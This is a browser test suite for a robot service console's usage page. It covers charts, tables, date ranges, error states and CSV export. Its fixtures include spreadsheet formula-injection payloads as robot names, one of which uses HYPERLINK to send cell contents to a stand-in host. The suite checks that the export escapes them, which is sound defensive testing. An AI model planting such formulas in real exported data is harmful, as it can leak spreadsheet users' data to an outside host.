/** @module-tag needs/browser */
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";

import type { Page } from "playwright-core";
import { expect, it, onTestFinished } from "vitest";

import { systemRandom } from "../../../../src/platform/random.ts";
import { createIds } from "../../../../src/service/kernel/ids.ts";
import { describeConsole, openSignedIn, startConsole } from "../../../support/browser.ts";
import { beginWriting, type RunningService } from "../../../support/service/service.ts";
import { violations } from "./axe.ts";

const HOUR_S = 3600;
const DAY_MS = 86_400_000;
/** Start of the UTC day on which the tests start; the ledger ends before it. Tests may run past midnight. */
const TODAY_MS = Math.floor(Date.now() / DAY_MS) * DAY_MS;

/** The name of a robot that a spreadsheet would run as a formula. */
const FORMULA = '=HYPERLINK("http://x/?"&A1,"y")';
/** More robots than the chart has colours. */
const ROBOTS = [FORMULA, "-2+3", "@sum", "arm, left", "arm-5", "arm-6", "arm-7", "arm-8"];

/** Fills the ledger: robot `i` was served `max(1, 8 - i)` hours on each of the last `days` days. */
async function fillLedger(running: RunningService, robots: readonly string[], days: number): Promise<void> {
  using database = new DatabaseSync(join(running.dataDirectory, "service.db"));
  const organizationId = String(database.prepare("select id from organizations").get()?.["id"]);
  await beginWriting(database);
  database.exec(`insert into robots (id, organization_id, name, robot_type_id, region, configuration_digest, labels, created_at, updated_at, refitted_at, changed_at, audit_id, made_by)
      values ('rob_1', '${organizationId}', 'r', 't', 'eu', 'd', '{}', '', '', '', '', '', '');
    insert into models (slug, display_name, default_checkpoint_id, created_at) values ('m', 'm', 'c', '');
    insert into checkpoints (id, model_slug, requirements, created_at) values ('c', 'm', '{}', '');
    insert into deployments (id, organization_id, robot_id, model_slug, checkpoint_id, region, status, generation_id, created_at, retired_at)
      values ('dep_1', '${organizationId}', 'rob_1', 'm', 'c', 'eu', 'retired', 'g', '', '')`);
  const insert = database.prepare(
    "insert into usage_records values (?, ?, 'dep_1', ?, ?, 't', 's', ?, 'second', ?, ?, ?)",
  );
  for (let day = days; day > 0; day -= 1) {
    const startMs = TODAY_MS - day * DAY_MS;
    const clock = { wallMs: () => startMs, monotonicMs: () => 0, sleep: () => Promise.resolve() };
    const newId = createIds(clock, systemRandom);
    for (const [index, robot] of robots.entries()) {
      const seconds = Math.max(1, 8 - index) * HOUR_S;
      const [start, end] = [new Date(startMs).toISOString(), new Date(startMs + seconds * 1000).toISOString()];
      insert.run(newId("use"), organizationId, robot, index % 2 === 0 ? "pi" : "act", seconds, start, end, start);
    }
  }
  database.exec("commit");
}

const dayOf = (ms: number) => new Date(ms).toISOString().slice(0, 10);
/** As the page shows a day. */
const wordOf = (ms: number) =>
  new Date(ms).toLocaleDateString("en-GB", { day: "numeric", month: "short", year: "numeric", timeZone: "UTC" });
const YESTERDAY = dayOf(TODAY_MS - DAY_MS);

async function startUsed(): Promise<RunningService> {
  const running = await startConsole();
  await fillLedger(running, ROBOTS, 40);
  return running;
}

describeConsole("usage", startUsed, (running) => {
  const open = (path: string, service = running()) => openSignedIn(service, path);

  const totalOf = async (page: Page) => (await page.locator("dd").first().innerText()).trim();

  /** The last 30 days by the calendar, today among them. */
  const DATES = `/usage?from=${dayOf(TODAY_MS - 29 * DAY_MS)}&to=${dayOf(TODAY_MS)}`;

  it("chart → all days, also those without usage, and a sentence that sums them up", async () => {
    const page = await open(DATES);
    // 29 days of 36 hours each, and none today.
    const sentence = `Hours by day, stacked by robot: 1,044 hours in 30 days; the most on ${wordOf(TODAY_MS - 29 * DAY_MS)}, 36 hours. Most used: ${FORMULA}, 232 hours.`;
    await page.getByRole("img", { name: sentence }).waitFor();
    expect(await totalOf(page)).toBe("1,044 h");
    expect(await page.locator(".usage-bar").count()).toBe(30);
    expect(await page.locator(".usage-bar").last().locator(".usage-part").count()).toBe(0);
    // Six robots with a colour of their own, and one part for the others.
    expect(await page.locator(".usage-bar").first().locator(".usage-part").count()).toBe(7);
  });

  it("no range, or one of too many days → the last 30 times 24 hours, as on the command line", async () => {
    const page = await open("/usage?days=7");
    // The request for seven days may still be running.
    const requested = page.waitForRequest((request) => {
      const { pathname, searchParams } = new URL(request.url());
      const moment = (name: string) => Date.parse(searchParams.get(name) ?? "");
      return pathname === "/v1/me/usage/summary" && moment("until") - moment("since") === 30 * DAY_MS;
    });
    await page.getByLabel("Time", { exact: true }).selectOption("Last 30 days");
    await requested;
    await page.getByRole("img", { name: /hours in 30 days/ }).waitFor();
    expect(new URL(page.url()).search).toBe("");
    // More days than the page can show.
    await page.goto(`${running().url}/usage?days=4000`);
    expect(await page.getByLabel("Time", { exact: true }).inputValue()).toBe("30");
  });

  it.each([1, 400])("last %d days, then days to choose → as many whole days, today the last", async (count) => {
    const page = await open(`/usage?days=${count}`);
    const time = page.getByLabel("Time", { exact: true });
    expect(await time.locator("option:checked").innerText()).toBe(`Last ${count} ${count === 1 ? "day" : "days"}`);
    await time.selectOption("From a day to a day…");
    await page.getByLabel("Last day").waitFor();
    const { searchParams } = new URL(page.url());
    const [from, to] = ["from", "to"].map((name) => Date.parse(searchParams.get(name) ?? ""));
    expect([(Number(to) - Number(from)) / DAY_MS + 1, Number(to) - TODAY_MS]).toEqual([
      count,
      expect.toSatisfy((ms) => ms <= DAY_MS),
    ]);
    await page.getByRole("heading", { name: count === 1 ? "Nothing was used in this time" : "By day" }).waitFor();
  });

  it("table opened with the keyboard → every number of the chart", async () => {
    const page = await open(DATES);
    await page.getByText("The days as a table").focus();
    await page.keyboard.press("Enter");
    const days = page.getByRole("table", { name: "Hours by day" });
    expect(await days.getByRole("columnheader").allInnerTexts()).toEqual([
      "Day",
      "All",
      ...ROBOTS.slice(0, 6),
      "Others",
    ]);
    const row = days.getByRole("row", { name: new RegExp(`^${wordOf(TODAY_MS - DAY_MS)}`) });
    expect(await row.getByRole("cell").allInnerTexts()).toEqual(["36", "8", "7", "6", "5", "4", "3", "3"]);
    expect(await days.getByRole("row").nth(1).getByRole("cell").first().innerText()).toBe("–");
    expect(await violations(page)).toEqual([]);
  });

  it("grouped by model, another range → both in the URL, restored by a reload", async () => {
    const page = await open("/usage");
    await page.getByLabel("Stacked by", { exact: true }).selectOption("Model");
    await page.getByRole("link", { name: "act" }).waitFor();
    await page.getByLabel("Time", { exact: true }).selectOption("From a day to a day…");
    const first = dayOf(TODAY_MS - 3 * DAY_MS);
    await page.getByLabel("First day").fill(first);
    await page.getByLabel("Last day").fill(YESTERDAY);
    await expect.poll(() => totalOf(page)).toBe("108 h");
    expect(new URL(page.url()).search).toBe(`?by=model&from=${first}&to=${YESTERDAY}`);
    await page.reload();
    await page.getByRole("img", { name: /^Hours by day, stacked by model: 108 hours in 3 days/ }).waitFor();
    const rows = await page.getByRole("table", { name: "Usage by model" }).locator("tbody tr").allInnerTexts();
    expect(rows.map((row) => row.split(/\s+/).slice(0, 4))).toEqual([
      ["pi", "60", "55.6", "%"],
      ["act", "48", "44.4", "%"],
    ]);
  });

  it.each([
    [`?from=${YESTERDAY}&to=2020-01-01`, "The last day is before the first."],
    ["?from=2020-01-01&to=2025-01-01", "Choose at most 400 days; these are 1828."],
    ["?from=tomorrow", "Choose a first and a last day."],
  ])("%s → says %j, sends no request", async (query, problem) => {
    const before = running().requests.length;
    const page = await open(`/usage${query}`);
    await page.getByText(problem).waitFor();
    const paths = running()
      .requests.slice(before)
      .map(({ path }) => path);
    expect(paths.filter((path) => path.includes("/usage/summary"))).toEqual([]);
  });

  it("CSV download → no name that a spreadsheet runs as a formula", async () => {
    const page = await open(`/usage?from=${YESTERDAY}&to=${YESTERDAY}`);
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Download CSV" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe(`usage-${YESTERDAY}-to-${YESTERDAY}-by-robot.csv`);
    const text = await readFile(await download.path(), "utf8");
    expect(text.split("\r\n")).toEqual([
      "\uFEFFday,robot,seconds,hours",
      `${YESTERDAY},"'=HYPERLINK(""http://x/?""&A1,""y"")",28800,8.0000`,
      `${YESTERDAY},"'-2+3",25200,7.0000`,
      `${YESTERDAY},"'@sum",21600,6.0000`,
      `${YESTERDAY},"arm, left",18000,5.0000`,
      `${YESTERDAY},arm-5,14400,4.0000`,
      `${YESTERDAY},arm-6,10800,3.0000`,
      `${YESTERDAY},arm-7,7200,2.0000`,
      `${YESTERDAY},arm-8,3600,1.0000`,
      "",
    ]);
  });

  it("large range → requested in parts, one result", async () => {
    const large = await startConsole();
    onTestFinished(() => large[Symbol.asyncDispose]());
    const robots = Array.from({ length: 600 }, (_, index) => `arm-${index}`);
    await fillLedger(large, robots, 40);
    const before = large.requests.length;
    const page = await open(`/usage?from=${dayOf(TODAY_MS - 40 * DAY_MS)}&to=${YESTERDAY}`, large);
    // 8 + 7 + … + 2 hours of the first seven, one of each other, on 40 days.
    await page.getByRole("img", { name: /: 25,120 hours in 40 days/ }).waitFor();
    const requests = large.requests.slice(before).filter(({ path }) => path.includes("/usage/summary"));
    expect(requests.map(({ status }) => status)).toEqual([200, 200, 200, 200]);
    expect(await page.locator(".usage-bar").first().locator(".usage-part").count()).toBe(7);
  });

  it("range without usage → says so; service fails → keeps the last answer", async () => {
    const empty = await startConsole();
    onTestFinished(() => empty[Symbol.asyncDispose]());
    const page = await open("/usage", empty);
    await page.getByRole("heading", { name: "Nothing was used in this time" }).waitFor();
    expect(await page.getByRole("button", { name: "Download CSV" }).isDisabled()).toBe(true);
    await page.route("**/v1/me/usage/**", (route) =>
      route.fulfill({ status: 503, json: { detail: "The service is being moved" } }),
    );
    await page.getByRole("button", { name: "Ask again" }).click();
    await page.getByText("This is the last known state of the usage.").waitFor();
    await page.getByText("The service is being moved.").waitFor();
    await page.getByLabel("Time", { exact: true }).selectOption("Last 7 days");
    await page.getByText("Cannot show the usage.").waitFor();
    await page.unroute("**/v1/me/usage/**");
    await page.getByRole("button", { name: "Try again" }).click();
    await page.getByRole("heading", { name: "Nothing was used in this time" }).waitFor();
  });
});
